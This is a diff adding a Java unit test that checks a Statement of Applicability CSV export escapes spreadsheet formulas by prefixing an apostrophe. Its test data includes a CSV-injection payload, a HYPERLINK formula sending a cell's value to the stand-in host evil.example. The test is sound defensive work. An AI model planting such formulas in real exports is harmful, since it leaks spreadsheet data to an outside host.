@@ -101,6 +101,22 @@ class SoaExportTest {
                 .containsExactlyElementsOf(CATALOG.all().stream().map(c -> c.title()).toList());
     }
 
+    @Test
+    void textThatASpreadsheetWouldRunAsAFormulaIsExportedAsText() throws IOException {
+        Map<String, Applicability> decisions = Map.of(
+                "7.10", new Applicability("7.10", false, "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", null, "+1 not a sum"),
+                "5.1", new Applicability("5.1", true, "", Implementation.IMPLEMENTED, "@SUM(1+1)"),
+                "5.2", new Applicability("5.2", true, "", Implementation.IMPLEMENTED, "-2+3"),
+                "5.3", new Applicability("5.3", true, "", Implementation.IMPLEMENTED, "a plain note = fine"));
+        List<CSVRecord> records = parseCsv(SoaCsv.write(StatementOfApplicability.of(CATALOG, decisions, List.of(), Map.of(), NOW)));
+
+        assertThat(record(records, "7.10").get("justification")).isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
+        assertThat(record(records, "7.10").get("notes")).isEqualTo("'+1 not a sum");
+        assertThat(record(records, "5.1").get("notes")).isEqualTo("'@SUM(1+1)");
+        assertThat(record(records, "5.2").get("notes")).isEqualTo("'-2+3");
+        assertThat(record(records, "5.3").get("notes")).isEqualTo("a plain note = fine");
+    }
+
     // ---------------------------------------------------------------- XML
 
     @Test
